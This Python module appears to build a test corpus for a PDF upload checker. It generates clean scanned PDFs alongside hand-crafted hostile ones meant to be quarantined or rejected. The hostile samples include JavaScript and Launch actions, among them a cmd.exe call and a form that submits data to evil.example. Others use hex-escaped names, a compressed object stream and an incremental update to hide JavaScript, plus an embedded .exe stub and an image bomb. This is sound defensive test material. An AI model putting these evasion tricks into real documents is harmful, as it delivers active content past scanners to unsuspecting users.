"""The corpus of scans: clean PDFs that must pass, and PDFs with active content, damage or
disguise that must be quarantined or refused.

Clean scans are made with fpdf2 (page images, as a scanner gives); hostile ones are mostly
written by hand, object by object, so that each carries exactly one trick.
"""

# ruff: noqa: E501  (PDF objects read best one to a line)

from __future__ import annotations

import contextlib
import datetime as dt
import io
import random
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pypdf
from fpdf import FPDF
from PIL import Image, ImageDraw
from pypdf.generic import (
    ArrayObject,
    ByteStringObject,
    DictionaryObject,
    NameObject,
    TextStringObject,
)

from talapker.filings.tests.corpus_build import Manifest, entry, write, zip_with

KYRGYZ_FONT = Path("/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf")
CREATED = dt.datetime(2026, 3, 15, 9, 0, tzinfo=dt.UTC)
FILE_ID = ArrayObject([ByteStringObject(b"talapker-corpus0")] * 2)
Q, R = "quarantine", "reject"

# fmt: off
# (name, extra keys for handmade(), expected verdict, reasons)
HANDMADE: list[tuple[str, dict[str, Any], str, list[str] | None]] = [
    ("clean_open_action_goto", {"catalog": b"/OpenAction [3 0 R /Fit]"}, "accept", None),
    ("clean_open_action_goto_dict", {"catalog": b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>"}, "accept", None),
    ("clean_uri_link", {"page": b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /URI /URI (https://shailoo.gov.kg) >> >>]"}, "accept", None),
    ("javascript_open_action", {"catalog": b"/OpenAction << /S /JavaScript /JS (app.launchURL\\('http://evil.example'\\)) >>"}, Q, ["javascript", "open_action"]),
    ("javascript_page_aa", {"page": b"/AA << /O << /S /JavaScript /JS (this.print\\(\\)) >> >>"}, Q, ["javascript", "additional_actions"]),
    ("javascript_link_annotation", {"page": b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /JavaScript /JS 5 0 R >> >>]", "extra": [b"<< /Length 11 >>\nstream\napp.beep(0)\nendstream"]}, Q, ["javascript"]),
    ("javascript_hex_obfuscated", {"catalog": b"/OpenAction << /S /J#61va#53cript /J#53 (app.alert\\(1\\)) >>"}, Q, ["javascript", "open_action"]),
    ("launch_open_action", {"catalog": b"/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>"}, Q, ["launch", "open_action"]),
    ("launch_hex_in_annotation", {"page": b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /L#61unch /F (evil.exe) >> >>]"}, Q, ["launch"]),
    ("file_attachment_annotation", {"page": b"/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /Type /Filespec /F (a.txt) /EF << /F 5 0 R >> >> >>]", "extra": [b"<< /Type /EmbeddedFile /Length 5 >>\nstream\nhello\nendstream"]}, Q, ["embedded_file"]),
    ("rich_media", {"page": b"/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << /Assets << /Names [] >> >> >>]"}, Q, ["rich_media"]),
    ("xfa_form", {"catalog": b"/AcroForm << /Fields [] /XFA 5 0 R >>", "extra": [b"<< /Length 8 >>\nstream\n<xdp:xdp\nendstream"]}, Q, ["xfa"]),
    ("catalog_additional_actions", {"catalog": b"/AA << /WC << /S /GoTo /D [3 0 R /Fit] >> >>"}, Q, ["additional_actions"]),
    ("submit_form", {"page": b"/Annots [<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /A << /S /SubmitForm /F (http://evil.example/collect) >> >>]"}, Q, ["dangerous_action"]),
    ("goto_remote", {"page": b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /F (//evil/share/x.pdf) /D [0 /Fit] >> >>]"}, Q, ["dangerous_action"]),
    ("open_action_uri", {"catalog": b"/OpenAction << /S /URI /URI (http://evil.example) >>"}, Q, ["open_action"]),
    ("encrypted_aes256_dictionary", {"trailer": b"/Encrypt << /Filter /Standard /V 5 /R 6 /Length 256 /CF << /StdCF << /CFM /AESV3 /AuthEvent /DocOpen /Length 32 >> >> /StmF /StdCF /StrF /StdCF /O <00> /U <00> /OE <00> /UE <00> /P -4 /Perms <00> >> /ID [<01> <01>]"}, Q, ["encrypted"]),
    ("no_pages", {"pages": b"<< /Type /Pages /Kids [] /Count 0 >>"}, R, ["no_pages"]),
    ("page_tree_cycle", {"pages": b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>"}, R, ["unreadable"]),
    ("damaged_deep_dictionary", {"catalog": b"/Foo " + b"<< /A " * 5000 + b">> " * 5000}, R, ["damaged"]),
    ("duplicate_key_hides_action", {"catalog": b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /S /GoToE /F (x.pdf) >>"}, Q, ["dangerous_action", "damaged"]),
    ("image_bomb", {"page": b"/Resources << /XObject << /Im1 5 0 R >> >>", "extra": [b"<< /Type /XObject /Subtype /Image /Width 100000 /Height 100000 /ColorSpace /DeviceGray /BitsPerComponent 8 /Length 4 >>\nstream\n\x00\x00\x00\x00\nendstream"]}, R, ["image_too_large"]),
]
NOTES = {
    "javascript_hex_obfuscated": "/J#61va#53cript is /JavaScript once #xx escapes are undone",
    "javascript_in_object_stream": "the action is compressed: only the walk over pypdf's objects sees it",
    "damaged_deep_dictionary": "pypdf gives up on the catalog and goes on with part of it: what it dropped cannot be checked",
    "duplicate_key_hides_action": "pypdf keeps the first /S (GoTo), a viewer may take the last (GoToE)",
    "image_bomb": "one image of 10 gigapixels, a bomb for whatever renders or OCRs the page",
}
# fmt: on


def pdf_corpus() -> Manifest:
    found: Manifest = []

    def add(name: str, data: bytes, expect: str, reasons: list[str] | None = None) -> None:
        note = {"note": NOTES[name]} if name in NOTES else {}
        found.append(entry("pdf", write(f"pdf/{name}.pdf", data), expect, reasons, **note))

    clean = scan_pdf(pages=2)
    add("clean_scan", clean, "accept")
    add("clean_scan_ten_pages", scan_pdf(pages=10), "accept")
    if KYRGYZ_FONT.exists():  # the file is committed; regenerating needs fonts-dejavu
        add("clean_kyrgyz_text", text_pdf(), "accept")
    add("clean_rewritten_by_pypdf", with_writer(clean, lambda writer: None), "accept")
    add("clean_trailing_newlines", clean + b"\r\n\r\n", "accept")
    for name, keys, expect, reasons in HANDMADE:
        add(name, handmade(**keys), expect, reasons)
    add("javascript_names_tree", with_writer(clean, add_names_js), Q, ["javascript"])
    add("javascript_in_object_stream", object_stream_pdf(), Q, ["javascript", "open_action"])
    add("javascript_incremental_update", incremental_js(clean), Q, ["javascript", "open_action"])
    attach = with_writer(clean, lambda writer: writer.add_attachment("invoice.exe", b"MZ\x90\x00"))
    add("embedded_file_attachment", attach, Q, ["embedded_file"])
    with seeded_secrets():
        user = with_writer(clean, lambda w: w.encrypt("secret", algorithm="RC4-128"))
        owner = with_writer(clean, lambda w: w.encrypt("", "owner", algorithm="RC4-40"))
    add("encrypted_user_password", user, Q, ["encrypted"])
    add("encrypted_owner_only", owner, Q, ["encrypted"])
    add("not_pdf_png", png_bytes(), R, ["not_pdf"])
    add("not_pdf_html", b"<!doctype html><script>alert(1)</script>", R, ["not_pdf"])
    add("not_pdf_zip", zip_with(b"", [("a.txt", b"x")]), R, ["not_pdf"])
    add("empty", b"", R, ["not_pdf"])
    add("truncated_half", clean[: len(clean) // 2], R, ["truncated"])
    add("header_only", b"%PDF-1.7\n", R, ["truncated"])
    garbage = b"%PDF-1.4\n" + random.Random(7).randbytes(4000) + b"\n%%EOF\n"
    add("garbage_body", garbage, R, ["unreadable"])
    add("too_many_pages", blank_pages(501), R, ["too_many_pages"])
    return found


# --- clean scans


def scan_image(page: int) -> Image.Image:
    """A grey page as a scanner gives it: lines of text, a signature and a stamp."""
    image = Image.new("L", (620, 877), 245)
    draw = ImageDraw.Draw(image)
    draw.text((60, 50), f"Interim report, page {page}", fill=20)
    for y in range(110, 700, 24):
        draw.line((60, y, 560 - (y * 7) % 120, y), fill=90, width=2)
    draw.ellipse((380, 720, 520, 860), outline=60, width=4)
    draw.line((80, 800, 140, 760, 200, 810, 260, 770), fill=30, width=3)
    return image


def scan_pdf(pages: int) -> bytes:
    pdf = FPDF(unit="pt", format="A4")
    pdf.set_creation_date(CREATED)
    for number in range(1, pages + 1):
        pdf.add_page()
        pdf.image(scan_image(number), x=0, y=0, w=595, h=842)
    return bytes(pdf.output())


def text_pdf() -> bytes:
    pdf = FPDF()
    pdf.set_creation_date(CREATED)
    pdf.add_font("DejaVu", fname=str(KYRGYZ_FONT))
    pdf.set_font("DejaVu", size=12)
    pdf.add_page()
    pdf.multi_cell(0, 8, "Шайлоо фондунун ортоңку отчёту\nӨмүрбеков Нурлан, Төлөгөнова Айгүл")
    return bytes(pdf.output())


def png_bytes() -> bytes:
    out = io.BytesIO()
    scan_image(1).resize((62, 88)).save(out, format="PNG")
    return out.getvalue()


# --- through pypdf


def with_writer(data: bytes, change: Callable[[pypdf.PdfWriter], object]) -> bytes:
    writer = pypdf.PdfWriter(clone_from=pypdf.PdfReader(io.BytesIO(data)))
    change(writer)
    if writer._ID is None:  # a fixed file id keeps the output the same on every run
        writer._ID = FILE_ID
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def add_names_js(writer: pypdf.PdfWriter) -> None:
    """Document-level JavaScript in the catalog's /Names tree (pypdf 7 dropped add_js)."""
    action = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert('Салам');"),
        }
    )
    tree = DictionaryObject(
        {NameObject("/Names"): ArrayObject([TextStringObject("init"), writer._add_object(action)])}
    )
    writer._root_object[NameObject("/Names")] = DictionaryObject(
        {NameObject("/JavaScript"): writer._add_object(tree)}
    )


@contextlib.contextmanager
def seeded_secrets() -> Iterator[None]:
    """pypdf draws encryption salts and file ids from `secrets`: seed them, so that the
    output is the same on every run."""
    import secrets

    seeded = random.Random(2026)
    original = secrets.token_bytes
    secrets.token_bytes = lambda n=32: seeded.randbytes(n or 32)  # type: ignore[assignment,misc]
    try:
        yield
    finally:
        secrets.token_bytes = original


def blank_pages(count: int) -> bytes:
    writer = pypdf.PdfWriter()
    for _ in range(count):
        writer.add_blank_page(width=595, height=842)
    writer._ID = FILE_ID
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


# --- by hand

CONTENT = b"BT /F1 24 Tf 72 720 Td (Signed report) Tj ET"


def handmade(
    *,
    catalog: bytes = b"",
    page: bytes = b"",
    pages: bytes | None = None,
    extra: list[bytes] | None = None,
    trailer: bytes = b"",
) -> bytes:
    """A one-page PDF with extra keys in its catalog, page or trailer, and extra objects
    numbered from 5."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        pages or b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R " + page + b" >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(CONTENT), CONTENT),
        *(extra or []),
    ]
    return pdf_of(objects, trailer=trailer)


def pdf_of(
    objects: list[bytes], *, header: bytes = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", trailer: bytes = b""
) -> bytes:
    """The objects (numbered from 1, the first the catalog) written out as a PDF file, with
    its cross-reference table."""
    out = bytearray(header)
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        trailer,
        xref,
    )
    return bytes(out)


def object_stream_pdf() -> bytes:
    """A PDF 1.5 file whose catalog and JavaScript open action sit in a compressed object
    stream, indexed by a cross-reference stream: the raw bytes name neither."""
    packed = {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
        5: b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>",
    }
    header, bodies = b"", b""
    for number, body in packed.items():
        header += b"%d %d " % (number, len(bodies))
        bodies += body + b"\n"
    stream = zlib.compress(header + bodies)
    plain = {
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        4: b"<< /Length %d >>\nstream\n%s\nendstream" % (len(CONTENT), CONTENT),
        6: b"<< /Type /ObjStm /N 2 /First %d /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream"
        % (len(header), len(stream), stream),
    }
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    for number, body in plain.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    offsets[7] = len(out)
    rows = [b"\x00" + (0).to_bytes(4, "big") + (65535).to_bytes(2, "big")]
    for number in range(1, 8):
        if number in packed:
            rows.append(
                b"\x02" + (6).to_bytes(4, "big") + list(packed).index(number).to_bytes(2, "big")
            )
        else:
            rows.append(b"\x01" + offsets[number].to_bytes(4, "big") + (0).to_bytes(2, "big"))
    xref = zlib.compress(b"".join(rows))
    out += (
        b"7 0 obj\n<< /Type /XRef /Size 8 /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream\nendobj\n"
        % (len(xref), xref)
    )
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[7]
    return bytes(out)


def incremental_js(data: bytes) -> bytes:
    """A clean file followed by an incremental update that adds a JavaScript open action."""
    trailer: Any = pypdf.PdfReader(io.BytesIO(data)).trailer
    root, pages = trailer.raw_get("/Root"), trailer["/Root"].raw_get("/Pages")
    size = int(trailer["/Size"])
    previous = int(data[data.rindex(b"startxref") + 9 :].split()[0])
    out = bytearray(data)
    catalog_at = len(out)
    out += b"%d 0 obj\n<< /Type /Catalog /Pages %d 0 R /OpenAction %d 0 R >>\nendobj\n" % (
        root.idnum,
        pages.idnum,
        size,
    )
    action_at = len(out)
    out += b"%d 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\n" % size
    xref = len(out)
    out += b"xref\n%d 1\n%010d 00000 n \n%d 1\n%010d 00000 n \n" % (
        root.idnum,
        catalog_at,
        size,
        action_at,
    )
    out += b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        size + 1,
        root.idnum,
        previous,
        xref,
    )
    return bytes(out)
